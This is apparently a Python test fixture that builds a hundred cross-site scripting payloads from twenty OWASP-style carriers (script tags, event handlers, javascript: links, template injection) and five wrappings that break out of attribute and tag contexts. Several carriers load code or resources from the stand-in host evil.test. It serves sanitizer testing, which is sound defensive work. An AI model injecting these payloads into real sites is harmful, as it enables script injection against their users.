"""A hundred pieces of markup, each of which would set `window.hit` or call evil.test if it ran.

Twenty carriers, written for this test after the kinds that OWASP's cheat sheet on cross-site
scripting names, in five wrappings that end what they might stand in.
"""

HOST = "http://evil.test"
CARRIERS = (
    "<script>window.hit=1</script>",
    f"<script src={HOST}/a.js></script>",
    f"<img src={HOST}/b.png>",
    "<img src=x onerror=window.hit=2>",
    "<svg onload=window.hit=3>",
    "<svg><script>window.hit=4</script></svg>",
    f"<iframe src={HOST}/c></iframe>",
    "<iframe srcdoc='<script>parent.hit=5</script>'></iframe>",
    f"<link rel=stylesheet href={HOST}/d.css>",
    f"<style>@import url({HOST}/e.css)</style>",
    f"<div style=background:url({HOST}/f.png)>x</div>",
    "<details open ontoggle=window.hit=6>x</details>",
    "<input autofocus onfocus=window.hit=7>",
    "<a href=javascript:window.hit=8 id=clicked>x</a>",
    f"<form action={HOST}/g><button>x</button></form>",
    f"<object data={HOST}/h></object><embed src={HOST}/i>",
    f"<video src={HOST}/j autoplay onloadstart=window.hit=9></video>",
    f"![x]({HOST}/k.png) [x](javascript:window.hit=10)",
    "${window.hit=11}{{constructor.constructor('window.hit=12')()}}",
    f"<base href={HOST}/><meta http-equiv=refresh content=0;url={HOST}/l>",
)
WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</p></mark></details></section>{}",
    "</textarea></title></script>{}<!--",
)
PAYLOADS = tuple(wrapping.format(one) for wrapping in WRAPPINGS for one in CARRIERS)
